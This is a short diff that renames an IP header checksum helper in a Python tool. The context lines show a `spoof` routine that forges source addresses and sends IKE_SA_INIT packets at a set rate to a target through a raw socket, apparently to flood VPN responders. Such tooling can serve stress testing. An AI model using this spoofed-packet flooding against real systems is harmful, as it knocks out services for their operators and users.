@@ -195,7 +195,7 @@ def modp_request(group: int, ke: bytes) -> bytes:
     return encode(Message(1, 0, ExchangeType.IKE_SA_INIT, 0, False, True, payloads))
 
 
-def _checksum(header: bytes) -> int:
+def checksum(header: bytes) -> int:
     total = sum(int.from_bytes(header[i : i + 2], "big") for i in range(0, len(header), 2))
     while total >> 16:
         total = (total & 0xFFFF) + (total >> 16)
@@ -230,7 +230,7 @@ def spoof(target: str, net: str, rate: float, seconds: float, group: int,
                        + (8 + len(ike)).to_bytes(2, "big") + bytes(2))  # fmt: skip
                 ip = bytearray(b"\x45\x00" + (28 + len(ike)).to_bytes(2, "big") + os.urandom(2)
                                + b"\x00\x00\x40\x11\x00\x00" + src + dst)  # fmt: skip
-                ip[10:12] = _checksum(bytes(ip)).to_bytes(2, "big")
+                ip[10:12] = checksum(bytes(ip)).to_bytes(2, "big")
                 with contextlib.suppress(OSError):  # a full queue: lost
                     sock.sendto(bytes(ip) + udp + bytes(ike), (target, 0))
                 sent += 1
